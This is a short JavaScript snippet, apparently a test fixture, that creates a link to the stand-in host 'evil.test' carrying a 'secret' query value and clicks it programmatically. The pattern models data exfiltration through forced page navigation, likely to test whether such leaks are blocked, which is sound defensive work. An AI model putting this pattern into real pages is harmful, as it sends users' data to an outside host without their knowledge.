// Clicks a link.

const a = document.createElement('a');
a.href = 'http://evil.test/?secret';
document.body.append(a);
a.click();
